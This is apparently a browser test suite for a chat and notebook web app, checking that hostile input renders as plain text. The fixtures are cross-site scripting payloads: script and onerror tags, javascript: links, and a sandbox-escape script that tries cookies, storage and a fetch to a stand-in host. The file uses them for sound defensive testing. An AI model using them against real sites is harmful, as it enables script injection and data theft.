"""What others wrote is shown as text: nothing of it runs, and nothing of it is fetched.

That no dialog opens, no page logs an error and no other server is asked is held by `Watch` in every test.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import FilePayload, expect

from tests.browser.conftest import Visits
from tests.browser.tab import Tab
from tests.browser.talker import Talker
from tests.scripted import Call, Text, Thinking
from tests.serving import Served

SCRIPT = "<script>window.__pwned = 1; alert(1)</script>"
IMAGE = "<img src=x onerror='window.__pwned = 1; alert(1)'>"
TAG = "<img src=x onerror=alert(1)>"
HOSTILE = f"{SCRIPT}{IMAGE}<svg onload='window.__pwned = 1'>&lt;b&gt;"
REMOTE = "https://elsewhere.example/pixel.png?data=secret"
FRAME = """\
from IPython.display import HTML
HTML('''<p id="inside">shown</p><script>
const reached = [];
const attempt = (name, act) => { try { act(); reached.push(name); } catch { } };
attempt("window", () => { parent.__pwned = 1; });
attempt("document", () => parent.document.body.append("x"));
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
fetch("https://elsewhere.example/").then(() => reached.push("fetch"), () => {}).finally(() => {
  document.querySelector("#inside").textContent = `reached: ${reached.join()}`;
});
attempt("top", () => { top.location = "https://elsewhere.example/"; });
</script><img src="https://elsewhere.example/x.png">''')
"""


def assert_unharmed(tab: Tab) -> None:
    """Nothing of what was shown has run, or become an element of the page."""
    assert tab.page.evaluate("typeof window.__pwned") == "undefined"
    assert tab.page.locator("#socket script, [onerror], [onload], svg[onload]").count() == 0


@pytest.fixture
def bob(openai: Talker, visit: Visits) -> Tab:
    """Somebody with a model."""
    return visit(openai.served)


def test_a_message_is_text(ann: Tab) -> None:
    ann.say(f"'''{HOSTILE}'''")
    assert ann.prompts.text_content() == f"'''{HOSTILE}'''"
    expect(ann.title).to_contain_text("<script>")
    expect(ann.history).to_contain_text("<script>")
    assert_unharmed(ann)
    ann.page.reload()
    assert ann.prompts.text_content() == f"'''{HOSTILE}'''"
    assert_unharmed(ann)


def test_what_a_cell_prints_is_text(ann: Tab) -> None:
    ann.send(f"hostile = {HOSTILE!r}\nimport time\nprint(hostile, flush=True); time.sleep(3)")
    expect(ann.live).to_contain_text("onerror=")
    ann.turns(1)
    assert ann.results.text_content() == HOSTILE
    ann.say("raise ValueError(hostile)")
    expect(ann.results.last).to_contain_text("ValueError: <script>")
    ann.say("class Odd:\n    def __repr__(self): return hostile\n\nOdd()")
    assert ann.results.last.text_content() == HOSTILE
    ann.say("print('\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07')")
    expect(ann.results.last).to_have_text("link")
    assert_unharmed(ann)


def test_markdown_latex_and_svg_of_a_cell_are_harmless(ann: Tab) -> None:
    ann.say(f"from IPython.display import *\nhostile = {HOSTILE!r}\nMarkdown(hostile)")
    expect(ann.results.last).to_contain_text("<script>")
    ann.say("Latex(hostile)")
    expect(ann.results.last).to_contain_text("<script>")
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40'>{SCRIPT}</svg>"
    ann.say(f"SVG({drawing!r})")
    ann.say("JSON({'key': hostile})")
    expect(ann.results.last).to_contain_text("<script>")
    ann.say("Javascript('window.__pwned = 1')")
    assert_unharmed(ann)


def test_names_in_tables_and_figures_are_text(ann: Tab) -> None:
    ann.say(f"import pandas as pd\nh = {HOSTILE!r}\npd.DataFrame({{h: [h], 'b': [1]}}, index=[h])")
    expect(ann.tables.locator("th").nth(1)).to_have_text(HOSTILE)
    expect(ann.tables.locator("td").first).to_have_text(HOSTILE)
    assert_unharmed(ann)
    ann.say("import plotly.express as px\npx.bar(x=[h, 'b'], y=[1, 2], title=h, labels={'x': h})")
    expect(ann.figures).to_have_count(1)
    expect(ann.log.locator("ck-figure .gtitle")).to_contain_text("onerror")
    assert ann.page.locator("ck-figure script, ck-figure img").count() == 0
    assert_unharmed(ann)


def test_a_link_in_a_figure_is_no_script(ann: Tab) -> None:
    title = "<a href='javascript:window.__pwned=1'>click</a> <a href='https://ok.example'>fine</a>"
    ann.say(f"import plotly.express as px\npx.line(y=[1, 2], title={title!r})")
    expect(ann.log.locator("ck-figure")).to_contain_text("click")
    for link in ann.page.locator("ck-figure a").all():
        assert "javascript:" not in str(link.evaluate("link => link.href.baseVal ?? link.href"))
    assert_unharmed(ann)


def test_html_of_a_cell_stays_in_its_frame(ann: Tab, visit: Visits) -> None:
    visit.allow("Content.Security.Policy|sandbox|Blocked|blocked|Unsafe attempt")  # the frame's own
    ann.say(FRAME)
    frame = ann.log.frame_locator("iframe")
    expect(frame.locator("#inside")).to_have_text("reached: ")
    expect(ann.log.locator("iframe")).to_have_attribute("sandbox", "allow-scripts")
    expect(ann.page).to_have_url(f"{ann.url}/chat/{ann.chat_id}")
    assert ann.page.locator("body").text_content() != ""
    assert_unharmed(ann)


def test_what_a_model_writes_is_text(bob: Tab, openai: Talker) -> None:
    answer = (
        f"{HOSTILE}\n\n[one](javascript:window.__pwned=1) [two](data:text/html,x) "
        f"![three]({REMOTE}) <a href='javascript:alert(1)'>four</a>\n\n"
        f'<fig name="{SCRIPT[8:20]}"/> <iframe src="https://elsewhere.example"></iframe>\n\n'
        f"```html\n{HOSTILE}\n```\n\n| {IMAGE} |\n|---|\n| {IMAGE} |\n"
    )
    openai.script(
        [Thinking(HOSTILE), Call("run_python", {"code": f"x = {HOSTILE!r}"})],
        Call("show", {"names": [HOSTILE]}),
        Call(f"no_{IMAGE}", {"x": HOSTILE}),
        Text(answer, pieces=40),
    )
    bob.say(HOSTILE)
    assert bob.prompts.text_content() == HOSTILE
    expect(bob.answers.last).to_contain_text("<script>")
    for link in bob.answers.get_by_role("link").all():
        assert str(link.get_attribute("href")).startswith("https://")
        assert link.get_attribute("rel") == "noopener noreferrer"
    assert bob.answers.locator("img, iframe, script").count() == 0
    assert_unharmed(bob)
    bob.page.reload()
    expect(bob.answers.last).to_contain_text("<script>")
    assert_unharmed(bob)


def test_names_of_chats_files_and_people_are_text(served: Served, visit: Visits) -> None:
    ann = visit(served, TAG)
    expect(ann.page.locator(".user-name")).to_have_text(TAG)
    file: FilePayload = {"name": f"{TAG}.csv", "mimeType": "text/csv", "buffer": b"n\n1\n"}
    ann.page.locator("input[type=file]").set_input_files(file)
    expect(ann.page.locator("#composer .chip")).to_contain_text("onerror")
    ann.say("1")
    expect(ann.log.locator(".chip")).to_contain_text("onerror")
    ann.history.hover()
    ann.button("Rename 1").click()
    field = ann.page.get_by_role("dialog").get_by_role("textbox")
    field.fill(IMAGE)
    field.press("Enter")
    expect(ann.title).to_have_text(IMAGE)
    expect(ann.history).to_have_text(IMAGE)
    ann.page.locator("[data-delete-chat]").click()
    expect(ann.page.get_by_role("dialog")).to_contain_text(IMAGE)
    ann.page.keyboard.press("Escape")
    assert_unharmed(ann)
    ann.page.reload()
    expect(ann.title).to_have_text(IMAGE)
    assert_unharmed(ann)
